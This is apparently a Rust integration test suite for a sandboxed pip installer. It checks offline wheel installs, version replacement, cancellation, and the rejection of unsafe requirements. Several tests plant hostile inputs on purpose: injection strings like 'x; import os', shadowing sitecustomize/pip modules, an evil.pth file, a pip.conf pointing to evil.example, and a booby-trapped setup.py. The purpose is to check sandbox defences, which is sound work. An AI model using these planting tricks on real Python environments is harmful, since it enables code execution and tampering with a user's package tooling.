//! Installing packages: pip runs inside the sandbox, sees nothing of the workspace, and reaches what it may.

use std::time::Duration;

use codegen_types::{ErrorCode, Exec, Network, Operation, Package, Program, TaskId};

use crate::bench::{Bench, Ran};

/// Writes a wheel into the workspace: one module, one console script.
const MAKE_WHEEL: &str = r#"
import os, sys, zipfile
name, version, needs = sys.argv[1:4]
info = f"{name}-{version}.dist-info"
files = {
    f"{name}.py": f"VERSION = '{version}'\ndef main():\n    print('{name}', VERSION)\n",
    f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + (f"Requires-Dist: {needs}\n" if needs else ""),
    f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    f"{info}/entry_points.txt": f"[console_scripts]\n{name}-say = {name}:main\n",
}
files[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in [*files, f"{info}/RECORD"])
os.makedirs("dist", exist_ok=True)
with zipfile.ZipFile(f"dist/{name}-{version}-py3-none-any.whl", "w") as wheel:
    for path, text in files.items():
        wheel.writestr(path, text)
"#;

async fn make_wheel(bench: &Bench, name: &str, version: &str, needs: &str) -> String {
    let args = [name, version, needs].map(str::to_owned).to_vec();
    let made = bench.exec(Program::PythonCode { code: MAKE_WHEEL.to_owned(), args }, "", &[]).await;
    assert_eq!(made.exit_code(), Some(0), "{made:?}");
    format!("dist/{name}-{version}-py3-none-any.whl")
}

async fn install(bench: &Bench, requirements: &[&str], network: Network) -> Ran {
    let requirements = requirements.iter().map(|text| text.to_string()).collect();
    let program = Program::Install { requirements, upgrade: false };
    let exec = Exec { network, ..Exec::of(program) };
    bench.run(bench.request(TaskId::mint(), Operation::Exec(exec))).await
}

fn package(name: &str, version: &str) -> Package {
    Package { name: name.to_owned(), version: version.to_owned() }
}

#[tokio::test]
async fn a_wheel_of_the_workspace_is_installed_without_any_network() {
    let bench = Bench::new().await;
    let first = make_wheel(&bench, "demo_one", "1.0", "demo_two>=1").await;
    make_wheel(&bench, "demo_two", "1.5", "").await;
    let ran = install(&bench, &[&first], Network::None).await;
    assert_eq!(ran.exit_code(), Some(0), "{}{}", ran.stdout, ran.stderr);
    let exit = ran.exit.expect("it ended");
    assert_eq!(exit.packages, [package("demo-one", "1.0"), package("demo-two", "1.5")], "with what lay beside it");
    assert_eq!(exit.hosts, [""; 0]);
    assert!(exit.files_changed.is_empty(), "{:?}", exit.files_changed);
    let fresh = bench.python("import demo_one, demo_two, sys\nprint(demo_one.VERSION, demo_two.VERSION)").await;
    assert_eq!(fresh.stdout, "1.0 1.5\n", "{fresh:?}");
    let shell = bench.shell("demo_one-say; python3 -c 'import demo_two; print(demo_two.VERSION)'").await;
    assert_eq!(shell.stdout, "demo_one 1.0\n1.5\n", "{shell:?}");
    let again = install(&bench, &[&first], Network::None).await;
    assert_eq!(again.exit_code(), Some(0), "{again:?}");
    let exit = again.exit.expect("it ended");
    assert_eq!((exit.packages.len(), exit.notes.as_slice()), (0, &["Already there: demo-one 1.0.".to_owned()][..]));
}

#[tokio::test]
async fn another_version_replaces_the_one_that_is_there() {
    let bench = Bench::new().await;
    for version in ["1.0", "2.0", "1.1"] {
        let wheel = make_wheel(&bench, "demo_one", version, "").await;
        let ran = install(&bench, &[&wheel], Network::None).await;
        assert_eq!(ran.exit.map(|exit| exit.packages), Some(vec![package("demo-one", version)]), "{}", ran.stderr);
        let listed = bench.shell("ls -d .codegen/python/lib/python*/site-packages/*.dist-info").await;
        assert_eq!(listed.stdout.lines().count(), 1, "{}", listed.stdout);
    }
}

#[tokio::test]
async fn the_worker_refuses_what_the_coordinator_should_have_refused() {
    let bench = Bench::new().await;
    for bad in ["-r x", "--index-url=http://h/", "x @ http://h/x", "/etc/x-1-py3-none-any.whl", "../x", "x; import os"]
    {
        let ran = install(&bench, &[bad], Network::None).await;
        assert_eq!(ran.code, Some(ErrorCode::InvalidArgument), "{bad}: {ran:?}");
    }
    let missing = install(&bench, &["dist/x-1-py3-none-any.whl"], Network::None).await;
    assert_eq!(missing.code, Some(ErrorCode::NotFound));
    assert_eq!(install(&bench, &[], Network::None).await.code, Some(ErrorCode::InvalidArgument));
    assert_eq!(install(&bench, &["six"], Network::None).await.code, Some(ErrorCode::InvalidArgument));
    let index = Network::Packages { index_url: Some("http://127.0.0.1:1/simple".to_owned()) };
    let off = install(&bench, &["six"], index.clone()).await;
    assert_eq!(off.code, Some(ErrorCode::PermissionDenied), "this worker was told of no index");
    let program = Exec { network: index, ..Exec::of(Program::Shell { command: "true".to_owned() }) };
    let ran = bench.run(bench.request(TaskId::mint(), Operation::Exec(program))).await;
    assert_eq!(ran.code, Some(ErrorCode::InvalidArgument), "only installations reach the network");
}

#[tokio::test]
async fn nothing_of_the_workspace_takes_a_part_in_an_installation() {
    let bench = Bench::new().await;
    let wheel = make_wheel(&bench, "demo_one", "1.0", "").await;
    let shout = "import os\nopen('/workspace/ran-' + __name__, 'w').close()\n";
    let site = ".codegen/python/lib/python3.$V/site-packages";
    let plant = format!(
        "set -e; V=$(python3 -c 'import sys; print(sys.version_info[1])'); mkdir -p {site}/pip .codegen/python/bin\n\
         for f in pip json sitecustomize usercustomize socket keyring brotli brotlicffi truststore setuptools _distutils_hack ssl; do\n\
         printf %s \"$SHOUT\" > $f.py; printf %s \"$SHOUT\" > {site}/$f.py; done; printf %s \"$SHOUT\" > {site}/pip/__init__.py\n\
         printf \"import os; open('/workspace/ran-pth', 'w').close()\" > {site}/evil.pth\n\
         printf '[global]\\nindex-url = http://evil.example/\\nno-such-option = 1\\n[install]\\ntarget = /workspace/elsewhere\\n' > pip.conf\n\
         mkdir -p /tmp/.config/pip /tmp/.pip; cp pip.conf /tmp/.config/pip/; cp pip.conf /tmp/.pip/; cp pip.conf /tmp/pip.conf\n\
         printf '[install]\\nuser = 0\\n' > setup.cfg; cp setup.cfg /tmp/.pydistutils.cfg; rm -f ran-*"
    );
    let planted = bench.exec(Program::Shell { command: plant }, "", &[("SHOUT", shout)]).await;
    assert_eq!(planted.exit_code(), Some(0), "{planted:?}");
    let ran = install(&bench, &[&wheel], Network::None).await;
    assert_eq!(ran.exit_code(), Some(0), "{}{}", ran.stdout, ran.stderr);
    assert_eq!(ran.exit.map(|exit| exit.packages), Some(vec![package("demo-one", "1.0")]));
    assert_eq!(bench.shell("ls -d ran-* elsewhere 2>/dev/null").await.stdout, "");
}

#[tokio::test]
async fn a_dependency_that_is_missing_is_named() {
    let bench = Bench::new().await;
    let wheel = make_wheel(&bench, "demo_one", "1.0", "not-there>=3").await;
    let ran = install(&bench, &[&wheel], Network::None).await;
    assert_eq!(ran.exit_code(), Some(1), "{ran:?}");
    assert!(ran.stderr.contains("not-there>=3"), "{}", ran.stderr);
    assert_eq!(ran.exit.map(|exit| (exit.packages.len(), exit.hosts.len())), Some((0, 0)));
}

/// A wheel that is installed names what would be built: an archive, a directory, a repository.
#[tokio::test]
async fn nothing_is_built_whatever_a_wheel_says_that_it_needs() {
    let bench = Bench::new().await;
    let plant = "mkdir -p src && cd src && printf 'open(\"/workspace/ran-setup\", \"w\").close()\\n' > setup.py && touch PKG-INFO && cd .. && tar czf y-1.0.tar.gz src";
    assert_eq!(bench.shell(plant).await.exit_code(), Some(0));
    for (version, needs) in [
        ("1.0", "y @ file:///workspace/y-1.0.tar.gz"),
        ("1.1", "y @ file:///workspace/src"),
        ("1.2", "y @ git+https://host.example/repo.git"),
        ("1.3", "y[z] @ file:///workspace/y-1.0.tar.gz"),
    ] {
        let wheel = make_wheel(&bench, "demo_one", version, needs).await;
        let ran = install(&bench, &[&wheel], Network::None).await;
        assert_eq!(ran.exit_code(), Some(1), "{needs}: {ran:?}");
        assert!(ran.stderr.contains("only wheels are installed"), "{needs}: {}", ran.stderr);
        assert_eq!(bench.shell("ls ran-* 2>/dev/null").await.stdout, "", "{needs}");
    }
    make_wheel(&bench, "demo_two", "1.0", "").await;
    let wheel =
        make_wheel(&bench, "demo_one", "2.0", "demo_two @ file:///workspace/dist/demo_two-1.0-py3-none-any.whl").await;
    assert_eq!(install(&bench, &[&wheel], Network::None).await.exit_code(), Some(0), "a wheel that is named so is one");
}

/// It is cancelled when its first package is there; the second has so many files that it is not yet.
#[tokio::test]
async fn an_installation_that_was_ended_names_what_it_installed_until_then() {
    let bench = Bench::new().await;
    make_wheel(&bench, "demo_one", "1.0", "").await;
    let wheel = make_wheel(&bench, "slow_one", "1.0", "demo_one").await;
    let grow = format!(
        "import zipfile\nwith zipfile.ZipFile('{wheel}', 'a') as wheel:\n    \
                        for n in range(12_000): wheel.writestr(f'slow/{{n}}.py', 'x = 1\\n' * 20)"
    );
    assert_eq!(bench.python(&grow).await.exit_code(), Some(0));
    let program = Program::Install { requirements: vec![wheel], upgrade: false };
    let task = TaskId::mint();
    let stream = bench.stream(bench.request(task, Operation::Exec(Exec::of(program)))).await;
    let first = "ls .codegen/python/lib/python*/site-packages/demo_one-1.0.dist-info/RECORD";
    while bench.shell(first).await.exit_code() != Some(0) {}
    assert!(bench.cancel(task, Duration::ZERO).await, "it still runs");
    drop(stream);
    let ran = bench.attach(task, 1).await;
    assert_eq!(ran.code, Some(ErrorCode::TaskCancelled), "{:?}", ran.exit);
    assert_eq!(ran.exit.map(|exit| exit.packages), Some(vec![package("demo-one", "1.0")]));
}
